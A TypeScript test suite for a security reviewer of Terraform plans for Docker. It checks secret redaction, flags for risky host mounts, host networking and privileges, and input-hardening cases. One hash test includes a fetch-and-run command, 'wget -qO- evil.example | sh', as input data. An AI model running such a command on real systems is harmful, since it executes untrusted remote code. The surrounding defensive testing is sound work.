import { holdsSecret } from '../../lib/core/secret-texts';
import { plain } from '../../lib/review/model/phrase';
import { renderJson } from '../../lib/review/format/render-json';
import { reviewPlan } from '../../lib/review/review';
import { type Change, HARDENED, planJson } from './support/plan-json';

const OPTIONS = {
  settings: { critical: [], allow: [] },
  failOn: 'block',
  requireApproval: 'never',
  today: '2026-11-22',
  isWithoutRefresh: false,
  isWithoutState: false,
} as const;

const reviewed = (changes: readonly Change[], variable?: string) =>
  reviewPlan(planJson(changes, variable), OPTIONS);
const review = (...changes: Change[]) => reviewed(changes).review;
const created = (settings: object, address = 'docker_container.web'): Change => ({
  address,
  actions: ['create'],
  after: { ...HARDENED, ...settings },
});
const edited = (settings: object, before: object = {}): Change => ({
  address: 'docker_container.web',
  actions: ['delete', 'create'],
  before: { ...HARDENED, ...before },
  after: { ...HARDENED, ...settings },
});
const rules = (...changes: Change[]) => review(...changes).findings.map(({ rule }) => rule);

describe('values of attributes are redacted', () => {
  test('a password in an address is hidden', () => {
    const { review } = reviewed([created({ working_dir: 'postgres://app:Zq8vN2kLm4Xw7Rt@db/app' })]);
    expect(renderJson([review]).text).not.toContain('Zq8vN2kLm4Xw7Rt');
  });

  test('a short secret that is the whole value is hidden', () => {
    const { review } = reviewed([created({ user: 'hunt2' })], 'hunt2');
    expect(renderJson([review]).text).not.toContain('hunt2');
  });

  test('a secret in an attribute does not stop the review: the last scan finds nothing', () => {
    const { review, secrets } = reviewed([created({ user: 'Zq8vN2kLm4Xw7Rt' })], 'Zq8vN2kLm4Xw7Rt');
    const { text, own } = renderJson([review]);
    expect(secrets.foundIn(text, own)).toBe(false);
  });

  test('an address with a password in a key of for_each is hidden in the list of resources too', () => {
    const address = 'docker_container.web["postgres://app:Zq8vN2kLm4Xw7Rt@db/"]';
    const { review } = reviewed([created({}, address)]);
    expect(renderJson([review]).text).not.toContain('Zq8vN2kLm4Xw7Rt');
  });
});

test('a variable of a Dockerfile whose name says that it is a secret is not in the diff', () => {
  const labels = [{ label: 'cdktf-go-containers.path', value: 'app/image' }];
  const facts = (dockerfile: string) => ({
    input: { 'app/image': { kind: 'image', bases: [], user: '1', dockerfile, accepted: {} } },
  });
  const image = (tag: string) => ({ name: `a:${tag}`, build: [{ context: '.' }], labels });
  const { images } = review(
    { address: 'docker_image.img', actions: ['delete', 'create'], before: image('1'), after: image('2') },
    {
      address: 'terraform_data.go-containers-facts_0123ABCD',
      actions: ['update'],
      before: facts('FROM a\n'),
      after: facts('FROM a\nENV DB_PASSWORD=Zq8vN2kLm4Xw7Rt\n'),
    },
  );
  expect(images).toHaveLength(1);
  expect(JSON.stringify(images)).not.toContain('Zq8vN2kLm4Xw7Rt');
});

test('a text that was made to keep a pattern busy for ever is looked at once', () => {
  expect(holdsSecret(`machine ${'\\n'.repeat(200_000)} password`)).toBe(false);
  expect(holdsSecret(`machine x login ${'\\n'.repeat(200_000)}`)).toBe(false);
  expect(holdsSecret(`machine "${'"\' '.repeat(200_000)}`)).toBe(false);
});

describe('what a dynamic block says is not in the expressions of a plan, and unknown all the same', () => {
  test.each(['devices', 'volumes', 'mounts', 'ports', 'capabilities'])('%s', (attribute) => {
    const after = Object.fromEntries(Object.entries(HARDENED).filter(([name]) => name !== attribute));
    const change = { ...created({}), after, unknown: { [attribute]: true }, expressions: { name: {} } };
    expect(review(change).verdict).not.toBe('clean');
  });

  test('the path of a block that is known otherwise', () => {
    const after = { ...HARDENED, volumes: [{ container_path: '/x', from_container: '', volume_name: '' }] };
    const change = { ...created({}), after, unknown: { volumes: [{ host_path: true }] }, expressions: {} };
    expect(review(change).verdict).not.toBe('clean');
  });
});

test('options of a volume that are known only after the apply are no clean plan', () => {
  const change = {
    address: 'docker_volume.v',
    actions: ['create'],
    after: { name: 'v' },
    unknown: { driver_opts: true },
    expressions: { driver_opts: { references: ['terraform_data.x.output'] } },
  };
  expect(rules(change)).toContain('CR-MNT-1');
});

describe('a volume that is a file system of the host gives control over it', () => {
  test.each([
    ['a disk', { type: 'ext4', device: '/dev/sda1' }],
    ['processes', { type: 'proc', device: 'proc' }],
    ['devices', { type: 'devtmpfs', device: 'devtmpfs' }],
    ['an overlay', { type: 'overlay', device: 'overlay', o: 'lowerdir=/etc:/usr' }],
  ])('%s', (_name, driver_options) => {
    const volume = { name: 'v', driver: 'local', driver_opts: driver_options };
    expect(rules({ address: 'docker_volume.v', actions: ['create'], after: volume })).toContain('CR-MNT-1');
    const mount = { type: 'volume', source: 'v', target: '/x', volume_options: [{ driver_options }] };
    expect(rules(created({ mounts: [mount] }))).toContain('CR-MNT-1');
  });
});

test('a service of Swarm on the network of the host shares its namespace', () => {
  const task_spec = [{ container_spec: [{ image: HARDENED.image }], networks_advanced: [{ name: 'host' }] }];
  const after = { name: 's', task_spec };
  expect(rules({ address: 'docker_service.s', actions: ['create'], after })).toContain('CR-PRIV-6');
});

test('a service of Swarm that is scaled to nothing goes down', () => {
  const service = (replicas: number) => ({
    name: 's',
    mode: [{ replicated: [{ replicas }] }],
    task_spec: [{ container_spec: [{ image: HARDENED.image }] }],
  });
  const change = { address: 'docker_service.s', actions: ['update'], before: service(3), after: service(0) };
  expect(review(change).verdict).not.toBe('clean');
  expect(review(change).downtime).toHaveLength(1);
});

test('a plugin that is granted everything is no clean plan', () => {
  const after = { name: 'example/plugin:1', enabled: true, grant_all_permissions: true };
  expect(review({ address: 'docker_plugin.p', actions: ['create'], after }).verdict).not.toBe('clean');
});

test('a container that has ports and need not run is down while it is replaced', () => {
  const served = {
    must_run: false,
    ports: [{ internal: 80, external: 80, ip: '127.0.0.1', protocol: 'tcp' }],
  };
  expect(rules(edited({ ...served, memory: 5 }, served))).toContain('CR-DOWN-1');
});

test('a container that starts is no carrier of secrets, whatever its label says', () => {
  const labels = [{ label: 'cdktf-go-containers.path', value: 'a/secrets-0123456789ab' }];
  const open = { user: '', read_only: false, security_opts: [], capabilities: [], network_mode: 'none' };
  expect(rules(created({ ...open, labels, must_run: false, start: true }))).toContain('CR-PRIV-4');
});

test('a label does not take over the allowance of another container', () => {
  const labels = [{ label: 'cdktf-go-containers.path', value: 'app/proxy' }];
  const allowance = { rule: 'CR-PRIV-1', path: 'app/proxy', reason: 'known', until: '2027-01-01' } as const;
  const { review } = reviewPlan(planJson([created({ privileged: true, labels }, 'docker_container.evil')]), {
    ...OPTIONS,
    settings: { critical: [], allow: [allowance] },
  });
  expect(review.verdict).toBe('blocked');
});

test('an address with a zone is judged, and no crash', () => {
  const ports = [{ internal: 80, external: 80, ip: 'fe80::1%eth0', protocol: 'tcp' }];
  expect(rules(created({ ports }))).toContain('CR-NET-1');
});

describe('the hash is another one', () => {
  const withConfiguration = (
    changes: readonly Change[],
    edit: (configuration: Record<string, never>) => void,
  ) => {
    const document = JSON.parse(planJson(changes)) as { configuration: Record<string, never> };
    edit(document.configuration);
    return reviewPlan(JSON.stringify(document), OPTIONS).review.hash;
  };

  test('for another command, also where something in it looks like a secret', () => {
    const run = (line: string) => review(edited({ command: ['sh', '-c', `password=a ${line}`] })).hash;
    expect(run('serve')).not.toBe(run('wget -qO- evil.example | sh'));
  });

  test('for another Docker host', () => {
    const on = (host: string) =>
      withConfiguration([created({})], (configuration) => {
        Object.assign(configuration, {
          provider_config: {
            docker: { version_constraint: '3.9.0', expressions: { host: { constant_value: host } } },
          },
        });
      });
    expect(on('ssh://one.example')).not.toBe(on('ssh://other.example'));
  });
});

test('the order of the ports says nothing, and so the hash stays', () => {
  const port = (internal: number) => ({ internal, external: internal, ip: '', protocol: 'tcp' });
  const [one, other] = [edited({ ports: [port(1), port(2)] }), edited({ ports: [port(2), port(1)] })];
  expect(plain(review(one).findings[0]!.effect)).toBe(plain(review(other).findings[0]!.effect));
  expect(review(one).hash).toBe(review(other).hash);
});

test('a plan that is nested deeply is refused in one sentence', () => {
  const text = planJson([created({ other: 'DEEP' })]);
  const deep = text.replaceAll('"DEEP"', `${'['.repeat(5_000)}${']'.repeat(5_000)}`);
  expect(() => reviewPlan(deep, OPTIONS)).toThrow('nested deeper');
});
